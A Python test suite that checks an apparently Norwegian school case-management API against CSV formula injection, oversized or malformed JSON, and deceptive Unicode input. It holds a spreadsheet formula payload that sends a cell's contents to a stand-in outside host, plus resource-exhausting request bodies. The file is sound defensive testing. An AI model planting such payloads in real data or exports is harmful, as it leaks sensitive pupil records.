"""A46 formulas that a program records, A47 too much and numbers that are none, A48 odd signs: over the API."""

from __future__ import annotations

import csv
import io
import json
import time
from uuid import UUID

import pytest
import requests
from api.programs import Program, problem, token
from record.town_in_browser import served
from town import A, Town, matter, person

from services.case_service.http.api.strict_json import NotStrictError, parse

CASE = matter("sak")
EVENT = f"/matters/{CASE}/events/case.PupilHeard"
HEARD = {"pupil": str(person("elev")), "form": "conversation", "outcome": "stated_view", "weight": "heavy"}
AS_READ = {"If-Match": '"9"'}
FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1;"Klikk")'
SAMI = "Čáhppes ŋ đ š ŧ ž Áhkku «Øyvind Æsøy» ïñ 🦄 e\u0301"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "|"])
def test_a46_what_a_program_records_becomes_a_formula_in_no_table(town: Town, start: str):
    text = start + FORMULA
    rektor = Program.of(town, "rektor")
    assert rektor.record(CASE, "case.PupilHeard", {**HEARD, "view": text}).status_code == 201
    concern = {"reporter": "employee", "concern": "exclusion", "own_words": text, "pupil_described": text}
    assert rektor.send("/reports/case.ConcernReceived", {"school": A, "fact": concern}).status_code == 201
    pages, raised = town.comes("rektor"), {"description": text, "grade": "minor", "kind": "deadline_missed", "title": text}
    pages.post("/avvik/ny", raised, page="/avvik/ny")
    tables = [
        pages.post("/avvik/eksport", {"system": "eqs", "which": "new", "format": "csv"}, page="/avvik/eksport"),
        town.comes("administrator").get("/admin/endringer.csv"),
    ]
    for table in tables:
        if table.mimetype == "text/csv":
            rows = csv.reader(io.StringIO(table.data.decode("utf-8-sig")), delimiter=";")
            assert not [cell for row in rows for cell in row if cell.lstrip()[:1] in set("=+-@|%\t\r")]
    assert tables[1].mimetype == "text/csv"


def test_a46_the_text_itself_is_given_as_it_was_and_as_nothing_that_a_program_opens(town: Town):
    rektor = Program.of(town, "rektor")
    rektor.record(CASE, "case.PupilHeard", {**HEARD, "view": FORMULA})
    answer = rektor.get(f"/matters/{CASE}/events?limit=200", Accept="text/html,text/csv")
    assert answer.json["items"][-1]["fact"]["view"] == FORMULA
    assert answer.mimetype == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in answer.headers["Cache-Control"]


MUCH = {
    "many names": b'{"fact": {' + b",".join(b'"n%x": 1' % number for number in range(80_000)) + b"}}",
    "many items": b'{"fact": {"view": [' + b"1," * 400_000 + b"1]}}",
    "a long name": b'{"fact": {"' + b"n" * 900_000 + b'": 1}}',
    "a long number": b'{"fact": {"view": ' + b"9" * 900_000 + b"}}",
    "a long fraction": b'{"fact": {"view": 0.' + b"1" * 900_000 + b"}}",
    "escapes": b'{"fact": {"view": "' + b"\\u0041" * 150_000 + b'"}}',
    "spaces": b" " * 1_000_000 + b"{}",
}


@pytest.mark.parametrize("name", MUCH)
def test_a47_as_much_as_there_is_room_for_is_refused_within_seconds(town: Town, name: str):
    rektor, before = Program.of(town, "rektor"), len(town.log())
    rektor.get("/schools")
    began = time.perf_counter()
    answer = rektor.send(EVENT, raw=MUCH[name], **AS_READ)
    assert time.perf_counter() - began < 5
    assert answer.status_code in {400, 413, 422}
    assert problem(answer)["code"]
    assert len(answer.data) < 2000
    assert len(town.log()) == before


def test_a47_a_name_repeated_after_many_others_is_found_at_once():
    names = [b'"n%x": 1' % number for number in range(10_000)]
    began = time.perf_counter()
    with pytest.raises(NotStrictError):
        parse(b"{" + b",".join([*names, names[-1]]) + b"}")
    assert time.perf_counter() - began < 0.2


@pytest.mark.parametrize("number", [2**53 + 1, -(2**53) - 1, 9_999_999_999_999_999])
def test_a47_a_number_that_others_round_is_refused(number: int):
    with pytest.raises(NotStrictError):
        parse(json.dumps([number]).encode())


@pytest.mark.parametrize(
    "written", ["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * 17, "01", "0x10", "1_000", "+1", ".5", "1."]
)
def test_a47_what_is_no_number_is_refused_with_where_it_stands(town: Town, written: str):
    body = f'{{"fact": {{"view": {written}}}}}'.encode()
    answer = Program.of(town, "rektor").send(EVENT, raw=body, **AS_READ)
    found = problem(answer)
    assert (answer.status_code, found["code"]) in {(400, "no_number"), (400, "number_too_large"), (400, "not_json")}
    assert found["code"] == "not_json" or found["errors"][0]["pointer"] == "/fact/view"


@pytest.mark.parametrize("where", ["body", "fact", "deeper"])
def test_a47_a_name_that_stands_twice_is_refused_wherever_it_stands(town: Town, where: str):
    """One reader takes the first, another the last: a check by the one would be no check for the other."""
    fact = json.dumps({**HEARD, "view": "det som ble vist"})[:-1]
    bodies = {
        "body": f'{{"fact": {fact}}}, "fact": {fact}, "outcome": "no_view"}}}}',
        "fact": f'{{"fact": {fact}, "view": "noe annet"}}}}',
        "deeper": f'{{"fact": {fact}, "more": [{{"a": 1, "\\u0061": 2}}]}}}}',
    }
    before = len(town.log())
    answer = Program.of(town, "rektor").send(EVENT, raw=bodies[where].encode(), **AS_READ)
    assert (answer.status_code, problem(answer)["code"]) == (400, "repeated_name")
    assert "noe annet" not in answer.text
    assert len(town.log()) == before


def without_length(town: Town, address: str, first: bytes) -> requests.Response | None:
    """The answer to four megabytes that begin with ``first`` and do not say how many they are; None when the server hung up."""
    headers = {"Authorization": f"Bearer {token(town, 'rektor')}", "Content-Type": "application/json"}
    headers |= {"Idempotency-Key": "without-a-length", **AS_READ}
    pieces = iter([first, *[b" " * 100_000] * 40])
    try:
        return requests.post(f"{address}/api/v1{EVENT}", data=pieces, headers=headers, timeout=20)
    except requests.ConnectionError:
        return None


def test_a47_a_body_that_does_not_say_how_long_it_is_is_not_read_without_end(town: Town):
    before = len(town.log())
    with served(town) as place:
        answer = without_length(town, place.address, b'{"fact": {"view": "')
    assert answer is None or answer.status_code in {400, 411, 413}
    assert answer is None or answer.headers["Content-Type"] == "application/problem+json"
    assert len(town.log()) == before


def test_a47_of_a_body_that_is_too_long_nothing_is_recorded_although_its_beginning_would_do(town: Town):
    before = len(town.events(CASE))
    with served(town) as place:
        without_length(town, place.address, json.dumps({"fact": {**HEARD, "view": "Syn"}}).encode())
    assert len(town.events(CASE)) == before


@pytest.mark.parametrize("header", ["Idempotency-Key", "If-Match"])
def test_a47_a_header_without_end_or_with_odd_signs_is_refused(town: Town, header: str):
    rektor, before = Program.of(town, "rektor"), len(town.log())
    given = {"Idempotency-Key": "an-ordinary-key", **AS_READ}
    for written in ("x" * 7_000, '"' + "9" * 5_000 + '"', "æøå-æøå-æøå", "a b c d e f g", '"²"', 'W/"9"', '"9","9"', "*"):
        if header == "Idempotency-Key" and not (" " in written or "æ" in written or len(written) < 8 or len(written) > 200):
            continue
        answer = rektor.send(EVENT, {"fact": {**HEARD, "view": "Syn"}}, **{**given, header: written})
        assert answer.status_code == 400, written
        assert problem(answer)["errors"][0]["parameter"] == header
    assert len(town.log()) == before


def test_a48_every_letter_comes_back_as_it_was_sent(town: Town):
    rektor = Program.of(town, "rektor")
    assert rektor.record(CASE, "case.PupilHeard", {**HEARD, "view": SAMI}).status_code == 201
    assert town.events(CASE)[-1].event.view == SAMI
    assert rektor.get(f"/matters/{CASE}/events?limit=200").json["items"][-1]["fact"]["view"] == SAMI
    escaped = json.dumps({"fact": {**HEARD, "view": SAMI}}, ensure_ascii=True).encode()
    assert rektor.send(EVENT, raw=escaped, **{"If-Match": rektor.version(CASE)}).status_code == 201
    assert town.events(CASE)[-1].event.view == SAMI


ODD = {
    "NUL": b"a\\u0000b",
    "half of a pair": b"a\\ud83db",
    "the other half": b"\\udd84",
    "a pair the wrong way round": b"\\udd84\\ud83e",
    "a surrogate in UTF-8": b"\xed\xa0\x80",
    "too long a form": b"\xc0\xaf",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "Latin-1": b"\xe6\xf8\xe5",
    "a bare line feed": b"a\nb",
}


@pytest.mark.parametrize("name", ODD)
def test_a48_what_is_no_text_is_refused_and_never_stored(town: Town, name: str):
    before = len(town.log())
    sent = json.dumps({"fact": {**HEARD, "view": "HERE"}}).encode().replace(b"HERE", ODD[name])
    answer = Program.of(town, "rektor").send(EVENT, raw=sent, **AS_READ)
    assert answer.status_code == 400
    assert problem(answer)["code"] in {"nul", "half_a_letter", "not_utf8", "not_json"}
    assert len(town.log()) == before


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-8-sig", "utf-7"])
def test_a48_a_body_in_another_encoding_is_not_guessed_at(town: Town, encoding: str):
    sent = json.dumps({"fact": {**HEARD, "view": "æøå"}}, ensure_ascii=False).encode(encoding)
    kind = {"Content-Type": f"application/json; charset={encoding}"}
    answer = Program.of(town, "rektor").send(EVENT, raw=sent, **AS_READ, **kind)
    if encoding == "utf-7":  # plain ASCII to everybody who reads UTF-8: no other letters come of it
        assert "ø" not in town.events(CASE)[-1].event.view
    else:
        assert (answer.status_code, problem(answer)["code"]) in {(400, "not_utf8"), (400, "not_json")}


@pytest.mark.parametrize(
    ("change", "pointer"),
    [
        ({"form": "conversati\u043en"}, "/fact/form"),  # with a Cyrillic letter
        ({"form": "conversation\u200b"}, "/fact/form"),
        ({"form": "Conversation"}, "/fact/form"),
        ({"outcome": "stated_view\u202e"}, "/fact/outcome"),
        ({"pupil": f"{person('elev')}\n"}, "/fact/pupil"),
        ({"pupil": f"\u202a{person('elev')}"}, "/fact/pupil"),
        ({"vie\u0301w": "x"}, "/fact"),
        ({"\u200bview": "x"}, "/fact"),
    ],
)
def test_a48_what_only_looks_like_a_name_is_none(town: Town, change: dict[str, str], pointer: str):
    answer = Program.of(town, "rektor").record(CASE, "case.PupilHeard", {**HEARD, "view": "Syn", **change})
    assert answer.status_code == 422
    assert problem(answer)["errors"][0]["pointer"] == pointer


WIDE = A.translate({ord(digit): ord(digit) + 0xFEE0 for digit in "0123456789"})


@pytest.mark.parametrize("school", [f"{A}\n", f"\u200b{A}", WIDE, f"{A} "])
def test_a48_a_schools_number_in_other_signs_is_no_school(town: Town, school: str):
    concern = {"reporter": "employee", "concern": "exclusion", "own_words": "Ord", "pupil_described": "Jente"}
    answer = Program.of(town, "laerer").send("/reports/case.ConcernReceived", {"school": school, "fact": concern})
    assert (answer.status_code, problem(answer)["errors"][0]["pointer"]) == (422, "/school")


def test_a48_a_turned_text_turns_nothing_on_the_page_but_itself(town: Town):
    turned = "Ola\u202eredael"
    answer = Program.of(town, "rektor").record(CASE, "case.PupilHeard", {**HEARD, "view": turned})
    event = UUID(answer.json["events"][0])
    assert town.events(CASE)[-1].event.view == turned
    page = town.comes("rektor").get(f"/saker/{CASE}/hendelser/{event}").text
    assert turned in page
    assert f"{turned}\u202c" in page or f"<bdi>{turned}" in page or f'dir="auto">{turned}' in page
